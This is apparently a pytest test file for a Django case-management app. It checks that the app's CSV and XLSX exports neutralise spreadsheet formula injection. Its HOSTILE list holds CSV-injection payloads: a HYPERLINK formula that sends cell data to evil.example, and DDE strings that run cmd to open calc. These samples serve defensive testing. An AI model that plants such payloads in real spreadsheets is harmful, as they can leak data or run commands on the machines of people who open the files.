"""Every CSV and XLSX Ombud writes goes through ombud/lib/spreadsheet.py, and none carries a
formula: each export is fed hostile cells (issue 10, point 5)."""

import csv
import datetime as dt
import io
import re
from pathlib import Path

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from ombud.cases.exchange.exporter import export_cases
from ombud.cases.exchange.importer import import_cases
from ombud.cases.models import Case, Centre
from ombud.lib.spreadsheet import FORMULA_STARTS, neutralise, restore_cell
from ombud.stats.exports import table_csv, table_xlsx
from ombud.stats.selectors import Period
from ombud.stats.tables import Row, StatTable
from ombud.whistleblower import services
from ombud.whistleblower.models import Department, Report
from tests.helpers.exchange import GOOD_ROWS, csv_bytes
from tests.helpers.personas import Personas, verified_client
from tests.helpers.whistleblower import WbSetup, sample_input, unlocked_handler_client

ROOT = Path(__file__).resolve().parents[2]
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
]


@pytest.mark.parametrize("value", [*HOSTILE, "", "plain", "'plain", "''=x", "2021-0042"])
def test_neutralise_is_undone_exactly_by_the_import(value: str) -> None:
    safe = neutralise(value)
    assert not safe.startswith(FORMULA_STARTS)
    assert restore_cell(safe) == value


def test_no_module_writes_csv_or_xlsx_around_the_helper() -> None:
    writer = re.compile(r"csv\.(writer|DictWriter)\(|\bWorkbook\(|WriteOnlyCell|xlsxwriter")
    helper = ROOT / "ombud" / "lib" / "spreadsheet.py"
    offenders = [
        str(path.relative_to(ROOT))
        for path in (ROOT / "ombud").rglob("*.py")
        if path != helper and writer.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == []


def _csv_cells(data: bytes, delimiter: str) -> list[str]:
    text = data.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]


def _assert_no_formula_in_csv(data: bytes, delimiter: str = ";") -> None:
    cells = _csv_cells(data, delimiter)
    assert cells and not [c for c in cells if c.startswith(FORMULA_STARTS)]


def _assert_no_formula_in_xlsx(data: bytes) -> list[object]:
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    values = [c.value for c in cells]
    assert not [v for v in values if isinstance(v, str) and v.startswith(FORMULA_STARTS)]
    return values


def _hostile_register(personas: Personas) -> None:
    rows = [dict(row, summary=HOSTILE[i % len(HOSTILE)]) for i, row in enumerate(GOOD_ROWS)]
    result = import_cases(
        actor=personas.advisor,
        municipality=personas.ishoj,
        source=csv_bytes(rows),
        filename="c.csv",
    )
    assert result.ok, result.problems
    Centre.objects.filter(municipality=personas.ishoj, label="Center for Voksne og Velfærd").update(
        label="=cmd|' /C calc'!A0"
    )


@pytest.mark.django_db
def test_the_case_exports_neutralise_and_round_trip(personas: Personas) -> None:
    _hostile_register(personas)
    before = dict(Case.objects.values_list("reference", "summary"))
    for fmt, language, delimiter in (("csv", "da", ";"), ("csv", "en", ","), ("xlsx", "da", "")):
        data = export_cases(personas.ishoj, fmt=fmt, language=language)  # type: ignore[arg-type]
        if fmt == "xlsx":
            values = _assert_no_formula_in_xlsx(data)
            assert neutralise(HOSTILE[0]) in values
        else:
            _assert_no_formula_in_csv(data, delimiter)
        result = import_cases(
            actor=None, municipality=personas.ishoj, source=data, filename=f"x.{fmt}"
        )
        assert result.summary_line() == f"created 0, updated 0, unchanged {len(GOOD_ROWS)}"
    assert dict(Case.objects.values_list("reference", "summary")) == before


@pytest.mark.django_db
def test_the_statistics_exports_neutralise(personas: Personas) -> None:
    _hostile_register(personas)
    client = verified_client(personas.reader)
    for fmt in ("csv", "xlsx"):
        url = reverse("stats:export", args=["ishoj", "centre_cases", fmt])
        response = client.get(url, {"year": 2021})
        assert response.status_code == 200
        if fmt == "csv":
            _assert_no_formula_in_csv(response.content)
            assert neutralise("=cmd|' /C calc'!A0") in _csv_cells(response.content, ";")
        else:
            assert neutralise("=cmd|' /C calc'!A0") in _assert_no_formula_in_xlsx(response.content)
    # The writers themselves, with every hostile value as a label, a group and a heading.
    table = StatTable(
        key="t",
        title="=T",
        label_heading="=H",
        count_heading="@C",
        periods=[Period(dt.date(2021, 1, 1), dt.date(2021, 12, 31))],
        rows=[Row(label=v, group=v, values=[1]) for v in HOSTILE],
        has_group=True,
    )
    _assert_no_formula_in_csv(table_csv(table))
    _assert_no_formula_in_xlsx(table_xlsx(table))


@pytest.mark.django_db
def test_the_whistleblower_export_neutralises(wb: WbSetup, personas: Personas) -> None:
    Department.objects.create(municipality=personas.ishoj, key="=evil", label="=evil")
    submission = services.report_submit(municipality=personas.ishoj, data=sample_input())
    Report.objects.filter(pk=submission.report.pk).update(department="=evil")
    response = unlocked_handler_client(wb).get(reverse("whistleblower:csv", args=["ishoj"]))
    assert response.status_code == 200
    _assert_no_formula_in_csv(response.content)
    assert "'=evil" in _csv_cells(response.content, ";")
